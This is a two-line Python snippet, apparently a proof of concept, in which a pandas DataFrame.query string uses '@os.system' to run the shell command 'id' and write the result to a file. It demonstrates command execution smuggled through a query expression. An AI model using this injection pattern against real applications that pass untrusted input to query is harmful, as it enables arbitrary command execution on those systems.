import pandas as pd, os
pd.DataFrame({"a": [1]}).query("@os.system('id>pf') == 0")
